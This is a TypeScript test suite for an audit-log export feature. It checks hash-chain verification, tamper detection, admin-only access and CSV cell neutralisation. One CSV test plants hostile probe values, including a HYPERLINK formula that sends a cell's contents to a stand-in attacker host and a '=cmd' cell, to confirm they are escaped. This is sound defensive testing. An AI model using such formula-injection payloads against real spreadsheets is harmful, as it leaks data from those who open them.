// Audit exports: JSON that an outside tool can re-verify (and that shows tampering at the
// right event), CSV with neutralised cells, role checks, and the audited chain report.
import { createHash } from 'node:crypto';
import canonicalize from 'canonicalize';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { auditHeadRow as auditHead, listAuditRows as listAudit } from '../../main/store/sqlite/audit-rows.ts';
import { listAuditEvents, type AuditQuery, exportAudit as exportTo, verifyAuditForReport as verifyReport, verifyExportedAudit, type AuditExportFile } from '../../main/core/audit-export.ts';
import { storeOf } from '../../main/store/sqlite/sqlite-store.ts';
import { vaultAdminOf } from '../../main/store/sqlite/vault-admin.ts';
import type { Vault } from '../../main/store/sqlite/vault.ts';
import type { Session } from '../../main/core/session.ts';
import type { OutputSink } from '../../main/core/sink.ts';

/** The export service into a sink in memory; checks that what was saved is what it returned. */
async function exportAudit(vault: Vault, session: Session, format: 'csv' | 'json', filter?: AuditQuery) {
  const saved: string[] = [];
  const sink: OutputSink = { save: async (c) => void saved.push(c), discard: async () => void saved.pop() };
  const r = await exportTo(storeOf(vault), vaultAdminOf(vault), session, format, sink, filter);
  expect(saved).toEqual([r.content]);
  return r;
}
const verifyAuditForReport = (vault: Vault, session: Session) => verifyReport(storeOf(vault), vaultAdminOf(vault), session);
import { FactorDeskError } from '../../main/core/errors.ts';
import { errorCode, makeVault } from '../helpers/vault.ts';

const cleanups: Array<() => void> = [];
afterEach(() => {
  while (cleanups.length) cleanups.pop()!();
});

async function setup() {
  const v = await makeVault({ withAgent: true });
  cleanups.push(v.cleanup);
  const events = [
    { action: 'user.view', userId: 1, userEmail: 'kari@example.no', outcome: 'ok' },
    { action: 'codes.issue-one-time', userId: 1, userEmail: 'kari@example.no', checks: ['callback'], ticket: 'HD-19920', reason: 'new phone', outcome: 'ok', details: { minutes: 60 } },
    { action: 'request.refused', userId: 2, userEmail: 'per@example.no', checks: [], ticket: 'HD-2', reason: 'e-mail only', outcome: 'refused' },
    { action: 'enrollment.reenroll', userId: 2, userEmail: 'per@example.no', checks: ['photo-id'], ticket: 'HD-3', reason: 'lost phone', outcome: 'ok', details: { voidCodes: true } },
  ];
  for (const e of events) {
    v.clock.advance(61_000);
    v.vault.auditNow({ operator: 'anne', ...e });
  }
  return v;
}


describe('audit export (JSON)', () => {
  it('carries head, anchor and every event with prevHash and hash that an outside tool can recompute', async () => {
    const v = await setup();
    const before = auditHead(v.vault.db);
    const out = (await exportAudit(v.vault, v.admin, 'json'));
    const doc = JSON.parse(out.content) as AuditExportFile;
    expect(doc.format).toBe('factordesk.audit-export');
    expect(doc.version).toBe(1);
    expect(doc.vaultId).toBe(v.vault.vaultId);
    expect(doc.exportedAt).toBe(new Date(v.clock.now()).toISOString());
    expect(doc.head).toEqual(before);
    expect(out.head).toEqual(before);
    expect(doc.anchor).toEqual({ ...before, valid: true });
    expect(doc.complete).toBe(true);
    expect(out.count).toBe(before.count);
    expect(doc.events.map((e) => e.seq)).toEqual(Array.from({ length: before.count }, (_, i) => i + 1));
    // What an outside tool does: SHA-256(prevHash ‖ RFC 8785 JSON of the rest).
    let prev = '0'.repeat(64);
    for (const e of doc.events) {
      const { prevHash, hash, ...rest } = e;
      expect(prevHash).toBe(prev);
      expect(createHash('sha256').update(prevHash + canonicalize(rest)!).digest('hex')).toBe(hash);
      prev = hash;
    }
    expect(verifyExportedAudit(out.content)).toEqual({ ok: true, firstBroken: null, problem: null });
    // The export itself is audited, after the snapshot it describes.
    const [last] = listAudit(v.vault.db, { limit: 1 });
    expect(last).toMatchObject({ action: 'audit.export', operator: 'anne', outcome: 'ok', details: { count: before.count, format: 'json', filtered: false } });
    expect(last!.seq).toBe(before.count + 1);
    expect(v.vault.anchor()).toMatchObject({ count: before.count + 1, valid: true });
  });

  it('reports a tampered field at that event, and deleted, reordered or truncated events', async () => {
    const v = await setup();
    const { content } = (await exportAudit(v.vault, v.admin, 'json'));
    const doc = JSON.parse(content) as AuditExportFile;
    const target = doc.events.findIndex((e) => e.action === 'codes.issue-one-time');
    const seq = doc.events[target]!.seq;
    const edit = (fn: (d: AuditExportFile) => void) => {
      const d = JSON.parse(content) as AuditExportFile;
      fn(d);
      return verifyExportedAudit(JSON.stringify(d));
    };
    expect(edit((d) => (d.events[target]!.reason = 'routine'))).toMatchObject({ ok: false, firstBroken: seq });
    expect(edit((d) => (d.events[target]!.at = '2020-01-01T00:00:00.000Z'))).toMatchObject({ ok: false, firstBroken: seq });
    expect(edit((d) => (d.events[target]!.checks = ['callback', 'manager']))).toMatchObject({ ok: false, firstBroken: seq });
    expect(edit((d) => (d.events[target]!.details = { minutes: 1440 }))).toMatchObject({ ok: false, firstBroken: seq });
    expect(edit((d) => ((d.events[target] as unknown as Record<string, unknown>)['extra'] = 1))).toMatchObject({ ok: false, firstBroken: seq });
    // Rewriting an event and recomputing its own hash still breaks the link of the next one.
    expect(
      edit((d) => {
        const e = d.events[target]!;
        e.reason = 'routine';
        const { prevHash, hash: _h, ...rest } = e;
        e.hash = createHash('sha256').update(prevHash + canonicalize(rest)!).digest('hex');
      }),
    ).toMatchObject({ ok: false, firstBroken: seq + 1 });
    expect(edit((d) => d.events.splice(target, 1))).toMatchObject({ ok: false, firstBroken: seq });
    expect(edit((d) => d.events.reverse())).toMatchObject({ ok: false, firstBroken: 1 });
    // Truncation at the end is caught by the head (and, if the head is edited too, by the anchor).
    const n = doc.events.length;
    expect(edit((d) => d.events.pop())).toMatchObject({ ok: false, firstBroken: n });
    expect(
      edit((d) => {
        d.events.pop();
        d.head = { count: n - 1, hash: d.events[n - 2]!.hash };
      }),
    ).toMatchObject({ ok: false, firstBroken: n });
    expect(verifyExportedAudit('not json').ok).toBe(false);
    expect(verifyExportedAudit('{"format":"other"}')).toMatchObject({ ok: false, firstBroken: null });
  });

  it('exports a filtered selection that still verifies event by event', async () => {
    const v = await setup();
    const out = (await exportAudit(v.vault, v.admin, 'json', { userId: 2 }));
    const doc = JSON.parse(out.content) as AuditExportFile;
    expect(doc.complete).toBe(false);
    expect(doc.filter).toEqual({ userId: 2 });
    expect(out.count).toBe(2);
    expect(doc.events.map((e) => e.action)).toEqual(['request.refused', 'enrollment.reenroll']);
    expect(verifyExportedAudit(out.content).ok).toBe(true);
    const d = JSON.parse(out.content) as AuditExportFile;
    d.events[0]!.outcome = 'ok';
    expect(verifyExportedAudit(JSON.stringify(d))).toMatchObject({ ok: false, firstBroken: doc.events[0]!.seq });
  });

  it('exports exactly what the audit page lists for the same filter (ticket, free text, operator prefix, user)', async () => {
    const v = await setup();
    const store = storeOf(v.vault);
    const listed = async (q: AuditQuery) => (await listAuditEvents(store, v.admin, q)).map((e) => e.seq).reverse();
    for (const q of [{ ticket: 'hd-' }, { ticket: '19920' }, { text: 'PHONE' }, { operator: 'AN', text: 'refused' }, { userEmail: 'per@example.no', text: 'lost' }, { text: 'nothing like this' }] as AuditQuery[]) {
      const out = await exportAudit(v.vault, v.admin, 'json', q);
      const doc = JSON.parse(out.content) as AuditExportFile;
      const want = await listed(q);
      expect(doc.events.map((e) => e.seq), JSON.stringify(q)).toEqual(want);
      expect(out.count).toBe(want.length);
      expect(doc.complete).toBe(false);
    }
    expect((await listed({ text: 'PHONE' })).length).toBe(2);
    // A user that does not exist matches nothing: the export is empty, not the whole log.
    const none = await exportAudit(v.vault, v.admin, 'csv', { userEmail: 'nobody@example.no' });
    expect(none.count).toBe(0);
  });

  it('is for admins only', async () => {
    const v = await setup();
    expect(await errorCode(exportAudit(v.vault, v.agent!, 'json'))).toBe('FORBIDDEN');
    expect(await errorCode(exportAudit(v.vault, v.agent!, 'csv'))).toBe('FORBIDDEN');
    expect(await errorCode(verifyAuditForReport(v.vault, v.agent!))).toBe('FORBIDDEN');
  });
});

describe('audit export (CSV)', () => {
  it('starts with a comment row carrying the head, then one neutralised row per event', async () => {
    const v = await setup();
    const hostile = [
      { ticket: '=HYPERLINK("http://evil.example/?x="&A1,"click")', reason: '+1', userEmail: '-2' },
      { ticket: '@x', reason: 'line one\r\nline two\u0000end', userEmail: '\t=cmd' },
      { ticket: 'ok', reason: '\r=1+1', userEmail: 'a\u0007b@example.no', details: { note: '=2+3\u0000' } },
    ];
    for (const h of hostile) v.vault.auditNow({ action: 'probe', operator: 'anne', outcome: 'ok', ...h });
    const head = auditHead(v.vault.db);
    const out = (await exportAudit(v.vault, v.admin, 'csv'));
    expect(out.count).toBe(head.count);
    // The header row first, the chain head in one trailing comment line.
    const lines = out.content.split('\r\n');
    expect(lines.pop()).toBe('');
    const comment = lines.pop()!;
    const rest = lines;
    expect(rest[0]).toMatch(/^seq,at,operator,action,/);
    expect(comment).toMatch(/^# factordesk\.audit-export v1 /);
    expect(comment).toContain(`head=${head.count}:${head.hash}`);
    expect(comment).toContain(`anchor=${head.count}:${head.hash}:valid`);
    expect(comment).toContain(`vault=${v.vault.vaultId}`);
    expect(out.content).not.toContain('\u0000');
    expect(out.content).not.toContain('\u0007');
    const rows = parse(rest.join('\r\n'), { columns: true, relax_column_count: false }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(head.count);
    expect(Object.keys(rows[0]!)).toEqual(['seq', 'at', 'operator', 'action', 'userId', 'userEmail', 'checks', 'ticket', 'reason', 'outcome', 'details', 'prevHash', 'hash']);
    for (const row of rows) {
      for (const cell of Object.values(row)) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F]/);
      }
    }
    const probes = rows.filter((r) => r['action'] === 'probe');
    expect(probes.map((r) => [r['ticket'], r['reason'], r['userEmail']])).toEqual([
      [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+1", "'-2"],
      ["'@x", 'line one\nline two' + 'end', "'=cmd"],
      // A leading CR is dropped and the formula behind it still neutralised.
      ['ok', "'=1+1", 'ab@example.no'],
    ]);
    // JSON already writes NUL as the six characters \u0000: inert text.
    expect(probes[2]!['details']).toBe('{"note":"=2+3\\u0000"}');
    const [last] = listAudit(v.vault.db, { limit: 1 });
    expect(last).toMatchObject({ action: 'audit.export', details: { count: head.count, format: 'csv' } });
  });
});

describe('verifyAuditForReport', () => {
  it('reports an intact chain and records audit.verify ok', async () => {
    const v = await setup();
    const report = (await verifyAuditForReport(v.vault, v.admin));
    expect(report).toMatchObject({ ok: true, firstBroken: null, anchor: 'ok' });
    const [last] = listAudit(v.vault.db, { limit: 1 });
    expect(last).toMatchObject({ action: 'audit.verify', operator: 'anne', outcome: 'ok', details: { count: report.count, firstBroken: null, anchor: 'ok' } });
    expect(v.vault.anchor()).toMatchObject({ count: report.count + 1, valid: true });
  });

  it('records a broken result as broken and does not re-anchor over the evidence', async () => {
    const v = await setup();
    v.vault.updateSlots((f) => {
      f.anchor = { ...f.anchor!, hash: 'f'.repeat(64) };
    });
    const report = (await verifyAuditForReport(v.vault, v.admin));
    expect(report.ok).toBe(false);
    expect(report.anchor).toBe('invalid');
    const [last] = listAudit(v.vault.db, { limit: 1 });
    expect(last).toMatchObject({ action: 'audit.verify', outcome: 'broken' });
    expect(v.vault.anchor()).toMatchObject({ hash: 'f'.repeat(64), valid: false });
    // An export of that state says so, and an outside check of it fails.
    const out = (await exportAudit(v.vault, v.admin, 'json'));
    expect((JSON.parse(out.content) as AuditExportFile).anchor).toMatchObject({ valid: false });
    expect(verifyExportedAudit(out.content).ok).toBe(false);
    expect(v.vault.anchor()).toMatchObject({ hash: 'f'.repeat(64), valid: false });
  });
});
